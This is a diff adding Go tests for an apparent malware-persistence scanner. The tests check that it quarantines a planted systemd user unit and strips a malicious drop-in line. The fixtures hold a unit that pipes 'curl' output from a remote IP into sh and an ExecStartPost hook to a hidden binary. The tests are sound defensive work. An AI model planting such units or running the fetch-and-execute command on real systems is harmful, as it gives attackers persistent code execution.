@@ -486,3 +486,39 @@ func TestFindImmutableDirectory(t *testing.T) {
 	needFlags(t)
 	checkWant(t, find(t, dir, time.Time{}), []want{{"/etc/cron.d", 0, KindImmutable, High, ActionClearFlags}})
 }
+
+// A user unit linked into ~/.config/systemd/user from elsewhere in the
+// home: quarantined with the links in the user's unit directory.
+func TestLinkedUserUnit(t *testing.T) {
+	dir := build(t, hosttest.Debian12().With(
+		hosttest.Entry{Path: "/root/.local/share/sync/sync.service", Data: "[Service]\nExecStart=/bin/sh -c 'curl -fsSL http://203.0.113.7/u | sh'\n", Mtime: hosttest.InfectionTime},
+		hosttest.Entry{Path: "/root/.config/systemd/user/sync.service", Link: "/root/.local/share/sync/sync.service"},
+		hosttest.Entry{Path: "/root/.config/systemd/user/default.target.wants/sync.service", Link: "/root/.local/share/sync/sync.service"},
+	))
+	fs, plan := findPlan(t, dir, PlanOptions{})
+	checkWant(t, fs, []want{{"/root/.local/share/sync/sync.service", 2, KindSystemd, Critical, ActionDisableUnit}})
+	got := map[string]Op{}
+	for _, c := range plan.Changes {
+		got[c.Path] = c.Op
+	}
+	want := map[string]Op{
+		"/root/.local/share/sync/sync.service":                         OpQuarantine,
+		"/root/.config/systemd/user/sync.service":                      OpUnlink,
+		"/root/.config/systemd/user/default.target.wants/sync.service": OpUnlink,
+	}
+	if diff := cmp.Diff(want, got); diff != "" {
+		t.Errorf("plan (-want +got):\n%s", diff)
+	}
+}
+
+// A drop-in a package ships (here: in the vendor directory) loses only its
+// bad line, like a packaged unit.
+func TestPackagedDropInLinesOnly(t *testing.T) {
+	dir := build(t, hosttest.Debian12().With(hosttest.Entry{Path: "/usr/lib/systemd/system/ssh.service.d/10-vendor.conf",
+		Data: "[Service]\nLimitNOFILE=65536\nExecStartPost=/var/tmp/.k/k\n"}))
+	_, plan := findPlan(t, dir, PlanOptions{})
+	c := planOps(plan)["/usr/lib/systemd/system/ssh.service.d/10-vendor.conf"]
+	if c.Op != OpRemoveLines || !cmp.Equal(c.Lines, []LineChange{{Line: 3, Content: "ExecStartPost=/var/tmp/.k/k"}}) {
+		t.Errorf("packaged drop-in: %+v", plan.Changes)
+	}
+}
